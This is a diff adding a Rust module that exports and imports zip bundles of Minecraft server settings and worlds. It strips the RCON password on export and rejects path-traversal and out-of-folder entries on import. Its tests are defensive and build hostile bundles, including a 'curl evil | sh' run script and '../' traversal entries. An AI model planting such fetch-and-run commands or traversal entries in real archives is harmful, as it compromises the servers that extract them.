@@ -0,0 +1,346 @@
+use crate::services::world_info::{world_folders, DIMENSION_SUFFIXES};
+use crate::util::{check_level_name, ServerInstance, ServerPropertiesManager};
+use anyhow::{anyhow, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::fs::{self, File};
+use std::io::{Read, Write};
+use std::path::{Component, Path, PathBuf};
+use zip::write::SimpleFileOptions;
+use zip::{CompressionMethod, ZipArchive, ZipWriter};
+
+/// Bumped whenever the bundle layout changes in a way older importers can't read
+pub const BUNDLE_FORMAT_VERSION: u32 = 1;
+
+const MANIFEST_ENTRY: &str = "bundle.json";
+const PROPERTIES_ENTRY: &str = "server.properties";
+const WORLD_PREFIX: &str = "world/";
+
+/// Describes everything needed to recreate a server. Loader binaries are not shipped;
+/// they are downloaded again from the loader and versions recorded in `instance`.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BundleManifest {
+    pub format_version: u32,
+    pub exported_at: String,
+    pub instance: ServerInstance,
+    /// File names found in mods/ (the JARs themselves are not included)
+    pub mods: Vec<String>,
+    /// File names found in plugins/ (the JARs themselves are not included)
+    pub plugins: Vec<String>,
+    pub includes_world: bool,
+    /// False when rcon.password and the RCON password override were stripped
+    pub includes_secrets: bool,
+}
+
+/// Writes a zip bundle for `instance` to `dest_path` and returns its manifest
+pub fn export_server_bundle(
+    instance: &ServerInstance,
+    server_path: &Path,
+    dest_path: &Path,
+    include_world: bool,
+    include_secrets: bool,
+) -> Result<BundleManifest> {
+    let properties_path = server_path.join(PROPERTIES_ENTRY);
+
+    let mut exported_instance = instance.clone();
+    if !include_secrets {
+        exported_instance.rcon_password = None;
+    }
+
+    let manifest = BundleManifest {
+        format_version: BUNDLE_FORMAT_VERSION,
+        exported_at: chrono::Utc::now().to_rfc3339(),
+        instance: exported_instance,
+        mods: list_jar_names(&server_path.join("mods")),
+        plugins: list_jar_names(&server_path.join("plugins")),
+        includes_world: include_world,
+        includes_secrets: include_secrets,
+    };
+
+    if let Some(parent) = dest_path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let file = File::create(dest_path)
+        .with_context(|| format!("Failed to create bundle file {:?}", dest_path))?;
+    let mut zip = ZipWriter::new(file);
+    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
+
+    zip.start_file(MANIFEST_ENTRY, options)?;
+    zip.write_all(serde_json::to_string_pretty(&manifest)?.as_bytes())?;
+
+    if properties_path.is_file() {
+        let properties = if include_secrets {
+            fs::read(&properties_path)?
+        } else {
+            properties_without_secrets(&properties_path, dest_path)?
+        };
+        zip.start_file(PROPERTIES_ENTRY, options)?;
+        zip.write_all(&properties)?;
+    }
+
+    if include_world {
+        // Paper and Spigot keep the other dimensions in sibling folders
+        for world_dir in world_folders(server_path) {
+            add_directory(&mut zip, server_path, &world_dir, options)?;
+        }
+    }
+
+    zip.finish()?;
+    log::info!("Exported bundle for {} to {:?}", instance.name, dest_path);
+    Ok(manifest)
+}
+
+/// Reads and validates the manifest of a bundle without extracting anything
+pub fn read_bundle_manifest(bundle_path: &Path) -> Result<BundleManifest> {
+    let file = File::open(bundle_path)
+        .with_context(|| format!("Failed to open bundle {:?}", bundle_path))?;
+    let mut archive = ZipArchive::new(file)?;
+
+    let mut content = String::new();
+    archive
+        .by_name(MANIFEST_ENTRY)
+        .map_err(|_| anyhow!("Not a server bundle: {} is missing", MANIFEST_ENTRY))?
+        .read_to_string(&mut content)?;
+
+    let manifest: BundleManifest = serde_json::from_str(&content)?;
+    if manifest.format_version > BUNDLE_FORMAT_VERSION {
+        return Err(anyhow!(
+            "Bundle format {} is newer than this version of Allay supports ({})",
+            manifest.format_version,
+            BUNDLE_FORMAT_VERSION
+        ));
+    }
+
+    Ok(manifest)
+}
+
+/// Restores server.properties and the world folders from a bundle into `server_path`.
+/// A stripped rcon.password is replaced with the one already present in the server folder.
+/// Only the bundle's level-name folder and its dimension siblings are written; a bundle with
+/// any other world entry is rejected before anything in the server folder changes.
+pub fn extract_bundle_files(bundle_path: &Path, server_path: &Path) -> Result<()> {
+    let file = File::open(bundle_path)?;
+    let mut archive = ZipArchive::new(file)?;
+
+    let properties_path = server_path.join(PROPERTIES_ENTRY);
+    let staged_path = server_path.join("server.properties.bundle");
+    let has_properties = match archive.by_name(PROPERTIES_ENTRY) {
+        Ok(mut entry) => {
+            let mut content = Vec::new();
+            entry.read_to_end(&mut content)?;
+            fs::write(&staged_path, content)?;
+            true
+        }
+        Err(_) => false,
+    };
+
+    let staged = has_properties.then_some(staged_path.as_path());
+    let entries = match check_bundle_entries(&mut archive, &properties_path, staged) {
+        Ok(entries) => entries,
+        Err(e) => {
+            let _ = fs::remove_file(&staged_path);
+            return Err(e);
+        }
+    };
+    if has_properties {
+        fs::rename(&staged_path, &properties_path)?;
+    }
+
+    for (index, relative) in entries {
+        let mut entry = archive.by_index(index)?;
+        let target = server_path.join(relative);
+        if entry.is_dir() {
+            fs::create_dir_all(&target)?;
+        } else {
+            if let Some(parent) = target.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            let mut output = File::create(&target)?;
+            std::io::copy(&mut entry, &mut output)?;
+        }
+    }
+
+    Ok(())
+}
+
+/// Fills a stripped rcon.password in the staged properties, then lists the world entries to
+/// extract as (index, path relative to the server folder). The level-name comes from the
+/// staged properties, or from the server's own when the bundle has none.
+fn check_bundle_entries(
+    archive: &mut ZipArchive<File>,
+    properties_path: &Path,
+    staged_path: Option<&Path>,
+) -> Result<Vec<(usize, PathBuf)>> {
+    let current = ServerPropertiesManager::new(properties_path.to_path_buf()).load_properties()?;
+    let properties = match staged_path {
+        Some(staged_path) => {
+            let staged = ServerPropertiesManager::new(staged_path.to_path_buf());
+            let mut properties = staged.load_properties()?;
+            if properties.rcon_password.is_empty() && !current.rcon_password.is_empty() {
+                properties.rcon_password = current.rcon_password;
+                staged.save_properties(&properties)?;
+            }
+            properties
+        }
+        None => current,
+    };
+
+    let level_name = properties.level_name;
+    check_level_name(&level_name).map_err(|e| anyhow!("Bundle has an invalid level-name: {}", e))?;
+    let folders: Vec<String> = std::iter::once("")
+        .chain(DIMENSION_SUFFIXES)
+        .map(|suffix| format!("{}{}", level_name, suffix))
+        .collect();
+
+    let mut entries = Vec::new();
+    for index in 0..archive.len() {
+        let entry = archive.by_index(index)?;
+        let name = entry.name();
+        let relative = match name.strip_prefix(WORLD_PREFIX) {
+            Some(relative) if !relative.is_empty() => Path::new(relative),
+            _ => continue,
+        };
+        // Anything else, such as run.sh or mods/, would run on the next start
+        let safe = relative.components().all(|c| matches!(c, Component::Normal(_)));
+        let in_world = relative
+            .components()
+            .next()
+            .is_some_and(|first| folders.iter().any(|folder| first.as_os_str() == folder.as_str()));
+        if !safe || !in_world {
+            return Err(anyhow!("Bundle contains a file outside its world folders: {}", name));
+        }
+        entries.push((index, relative.to_path_buf()));
+    }
+    Ok(entries)
+}
+
+/// server.properties with rcon.password emptied, edited on a copy beside the bundle so the
+/// server's own file is untouched
+fn properties_without_secrets(properties_path: &Path, dest_path: &Path) -> Result<Vec<u8>> {
+    let copy_path = dest_path.with_extension("properties.tmp");
+    fs::copy(properties_path, &copy_path)?;
+    let manager = ServerPropertiesManager::new(copy_path.clone());
+    let stripped = manager.load_properties().and_then(|mut properties| {
+        properties.rcon_password.clear();
+        manager.save_properties(&properties)?;
+        fs::read(&copy_path)
+    });
+    let _ = fs::remove_file(&copy_path);
+    Ok(stripped?)
+}
+
+fn list_jar_names(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = fs::read_dir(dir)
+        .map(|entries| {
+            entries
+                .flatten()
+                .map(|entry| entry.file_name().to_string_lossy().to_string())
+                .filter(|name| name.ends_with(".jar"))
+                .collect()
+        })
+        .unwrap_or_default();
+    names.sort();
+    names
+}
+
+fn add_directory(
+    zip: &mut ZipWriter<File>,
+    server_path: &Path,
+    dir: &Path,
+    options: SimpleFileOptions,
+) -> Result<()> {
+    for entry in fs::read_dir(dir)?.flatten() {
+        let path = entry.path();
+        let relative = path
+            .strip_prefix(server_path)?
+            .to_string_lossy()
+            .replace('\\', "/");
+
+        if path.is_dir() {
+            zip.add_directory(format!("{}{}/", WORLD_PREFIX, relative), options)?;
+            add_directory(zip, server_path, &path, options)?;
+        } else if entry.file_name() != "session.lock" {
+            // session.lock is held open by a running server and is recreated on start
+            zip.start_file(format!("{}{}", WORLD_PREFIX, relative), options)?;
+            let mut source = File::open(&path)?;
+            std::io::copy(&mut source, zip)?;
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write_bundle(path: &Path, entries: &[(&str, &str)]) {
+        let mut zip = ZipWriter::new(File::create(path).unwrap());
+        for (name, content) in entries {
+            zip.start_file(*name, SimpleFileOptions::default()).unwrap();
+            zip.write_all(content.as_bytes()).unwrap();
+        }
+        zip.finish().unwrap();
+    }
+
+    fn server_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("allay-bundle-{}-{}", name, std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("server.properties"), "rcon.password=local-secret\r\nlevel-name=world\r\n").unwrap();
+        dir
+    }
+
+    #[test]
+    fn extracts_world_folders_and_keeps_the_local_password() {
+        let dir = server_dir("extract");
+        let bundle = dir.with_extension("zip");
+        write_bundle(&bundle, &[
+            (PROPERTIES_ENTRY, "level-name=survival\nrcon.password=\nmotd=Shared\n"),
+            ("world/survival/level.dat", "level"),
+            ("world/survival_nether/DIM-1/region/r.0.0.mca", "nether"),
+        ]);
+
+        extract_bundle_files(&bundle, &dir).unwrap();
+        let properties = ServerPropertiesManager::new(dir.join("server.properties")).load_properties().unwrap();
+        let level = fs::read_to_string(dir.join("survival/level.dat")).unwrap();
+        let nether = dir.join("survival_nether/DIM-1/region/r.0.0.mca").is_file();
+        fs::remove_dir_all(&dir).unwrap();
+        fs::remove_file(&bundle).unwrap();
+
+        assert_eq!(properties.level_name, "survival");
+        assert_eq!(properties.rcon_password, "local-secret");
+        assert_eq!(properties.motd, "Shared");
+        assert_eq!(level, "level");
+        assert!(nether);
+    }
+
+    #[test]
+    fn rejects_entries_outside_the_world_folders() {
+        let hostile = [
+            vec![("world/run.sh", "curl evil | sh")],
+            vec![("world/mods/evil.jar", "jar")],
+            vec![("world/world/../eula.txt", "eula=true")],
+            vec![(PROPERTIES_ENTRY, "level-name=..\n"), ("world/../run.sh", "sh")],
+        ];
+        for entries in hostile {
+            let dir = server_dir("hostile");
+            let bundle = dir.with_extension("zip");
+            let mut entries = entries.clone();
+            entries.push(("world/world/level.dat", "level"));
+            write_bundle(&bundle, &entries);
+
+            let result = extract_bundle_files(&bundle, &dir);
+            let mut left: Vec<String> = fs::read_dir(&dir)
+                .unwrap()
+                .flatten()
+                .map(|entry| entry.file_name().to_string_lossy().to_string())
+                .collect();
+            left.sort();
+            let properties = fs::read_to_string(dir.join("server.properties")).unwrap();
+            fs::remove_dir_all(&dir).unwrap();
+            fs::remove_file(&bundle).unwrap();
+
+            assert!(result.is_err(), "{:?}", entries);
+            assert_eq!(left, vec!["server.properties"], "{:?}", entries);
+            assert!(properties.contains("level-name=world"), "{:?}", entries);
+        }
+    }
+}